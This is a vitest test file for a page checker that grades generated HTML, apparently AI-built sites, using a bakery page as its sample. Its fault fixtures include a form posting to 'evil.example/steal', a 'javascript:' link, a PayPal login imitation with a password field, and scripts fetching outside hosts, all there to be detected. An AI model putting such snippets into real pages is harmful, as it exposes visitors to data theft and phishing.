import { expect, test } from 'vitest';
import { checkPage, type Asked } from './check-page.ts';

const HEAD = `<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="description" content="Bread of the village.">
<title>Bakery</title>`;
const LINES = {
  en: '<p>We are here for you and your friends with the bread of the day, and it is baked by us in the oven of the house.</p>',
  it: '<p>Siamo qui per te e per i tuoi amici con il pane del giorno, che viene cotto da noi nel forno della casa.</p>',
};
const PARAGRAPH =
  '<p>We bake the bread of the village with flour from the mill and a starter that is older than the shop.</p>';

interface Parts {
  head?: string;
  body?: string;
  lang?: string;
  end?: string;
}

function page({
  head = HEAD,
  body = '',
  lang = 'en',
  end = '</body>\n</html>',
}: Parts = {}): string {
  return `<!doctype html>
<html lang="${lang}">
<head>
${head}
</head>
<body>
<h1 id="top-title">Bakery</h1>
${PARAGRAPH}
${body}
${end}`;
}

function failed(html: string, asked?: Asked): string[] {
  return checkPage(html, asked)
    .filter(({ ok }) => !ok)
    .map(({ id, detail }) => (detail === '' ? id : `${id}: ${detail}`));
}

test('a clean page passes every check', () => {
  expect(failed(page())).toEqual([]);
});

const FAULTS: [finding: string, parts: Parts][] = [
  ['complete', { end: '' }],
  ['ids: top-title', { body: '<p id="top-title">Again</p>' }],
  ['anchors: #prices', { body: '<a href="#prices">Prices</a>' }],
  ['leftovers: lorem ipsum', { body: '<p>lorem ipsum dolor</p>' }],
  ['leftovers: <!-- rest of', { body: '<!-- rest of the page -->' }],
  ['leftovers: {{ name }}', { body: '<p>Dear {{ name }}</p>' }],
  ['leftovers: TODO', { body: '<!-- TODO: prices -->' }],
  ['markup: 13 errors', { body: '<p a a></p>'.repeat(13) }],
  ['language: it', { lang: 'it' }],
  ['language: no lang', { lang: '' }],
  ['title', { head: HEAD.replace('Bakery', ' ') }],
  ['description', { head: HEAD.replace('Bread of the village.', '') }],
  ['viewport', { head: HEAD.replace('width=device-width, ', '') }],
  ['size: 195 KB', { body: `<p>${'x'.repeat(199_800)}</p>` }],
  ['heading: 2 h1', { body: '<h1>Second</h1>' }],
  ['alt: 1 images', { body: '<img src="a.png">' }],
  [
    'hosts: script cdn.example.com',
    { head: `${HEAD}<script src="https://cdn.example.com/a.js"></script>` },
  ],
  ['hosts: form evil.example', { body: '<form action="//evil.example/steal"></form>' }],
  ['addresses: javascript:', { body: '<a href=" javascript:alert(1)">x</a>' }],
  ['addresses: refresh', { head: `${HEAD}<meta http-equiv="Refresh" content="0;url=/x">` }],
  ['hosts: style fonts.example', { head: `${HEAD}<style>@import "//fonts.example/x";</style>` }],
  ['hosts: style img.example', { body: '<i style="background:url(https://img.example/a)"></i>' }],
  ['hosts: script api.example', { body: '<script>fetch("https://api.example/x")</script>' }],
  [
    'hosts: script esm.example',
    { body: '<script type="module">import x from "https://esm.example/x";x()</script>' },
  ],
  [
    'hosts: script xhr.example',
    { body: '<script>new XMLHttpRequest().open("GET", "https://xhr.example/x")</script>' },
  ],
  ['scripts: Unexpected token (1:10)', { body: '<script>const a = ;</script>' }],
  ['scripts: Unexpected token (1:14)', { body: '<script type="module">import a from ;</script>' }],
  [
    'scripts: application/ld+json: no valid JSON',
    { body: '<script type="application/ld+json">{"a":1,}</script>' },
  ],
  [
    'imitation: paypal',
    { head: HEAD.replace('Bakery', 'PayPal: log in'), body: '<input type="password">' },
  ],
  [
    'contrast: --ink on --paper 1.6',
    { head: `${HEAD}<style>:root { --ink: #ccc; --paper: #fff; }</style>` },
  ],
  [
    'contrast: --text on --bg 1.3',
    {
      head: `${HEAD}<style>:root { --text: oklch(92% 0.02 90); --bg: rgb(255, 255, 255); }</style>`,
    },
  ],
];

test.each(FAULTS)('%s is found', (finding, parts) => {
  expect(failed(page(parts))).toContain(finding);
});

test('a page in which there is nothing to read is found, whatever its scripts say', () => {
  const empty = `<!doctype html><html lang="en"><head>${HEAD}</head><body><h1>Hi</h1><script>${'say();'.repeat(20)}</script></body></html>`;
  expect(failed(empty)).toEqual(['content']);
});

test('every check has a failing example here', () => {
  const shown = new Set(FAULTS.map(([finding]) => finding.split(':')[0]));
  const checks = checkPage(page()).map(({ id }) => id);
  expect(checks.filter((id) => id !== 'content' && !shown.has(id))).toEqual([]);
});

test('only completeness and content are reasons to throw a page away', () => {
  const hard = checkPage(page()).filter(({ weight }) => weight === 'hard');
  expect(hard.map(({ id }) => id)).toEqual(['complete', 'content']);
});

test('a canonical link, a map and a link elsewhere are no reach for other hosts', () => {
  const body =
    '<a href="https://example.com">x</a><iframe title="Map" src="https://www.openstreetmap.org/x"></iframe>';
  const head = `${HEAD}<link rel="canonical" href="https://example.com/">`;
  expect(failed(page({ body, head }))).toEqual([]);
});

test('scripts that run, data of other kinds and scripts from a file are left alone', () => {
  const body = [
    '<script>for (const a of [1]) { a?.b ?? 2; }</script>',
    '<script type="module">import a from "./a.js"; await a();</script>',
    '<script type="text/template">{{ not JavaScript }}</script>',
    '<script type="application/json">{"a":[1]}</script>',
    '<script src="app.js">ignored (</script>',
  ].join('\n');
  expect(failed(page({ body }))).toEqual([]);
});

test('a host that the request names, a link and an opened window are no reach for other hosts', () => {
  const body =
    '<script>fetch("https://api.shop.example/x"); window.open("https://elsewhere.example");</script>';
  expect(failed(page({ body }))).toEqual(['hosts: script api.shop.example']);
  const request = 'Show the prices of https://api.shop.example/prices';
  expect(failed(page({ body }), { request, language: 'en' })).toEqual([]);
});

test('a page in another language than asked for is found by its words and by its lang', () => {
  const request = 'A bakery';
  const italian = page({ lang: 'it', body: LINES.it.repeat(3) }).replace(PARAGRAPH, '');
  expect(failed(italian, { request, language: 'it' })).toEqual([]);
  expect(failed(italian, { request, language: 'en' })).toEqual(['language: it instead of en']);
  expect(failed(page(), { request, language: 'de' })).toContain('language: en instead of de');
  const unsaid = page({ lang: 'en', body: '' }).replace(PARAGRAPH, `<p>${'Brot '.repeat(20)}</p>`);
  expect(failed(unsaid, { request, language: 'de' })).toEqual([
    'language: lang="en" instead of de',
  ]);
  expect(failed(unsaid, { request, language: undefined })).toEqual([]);
});
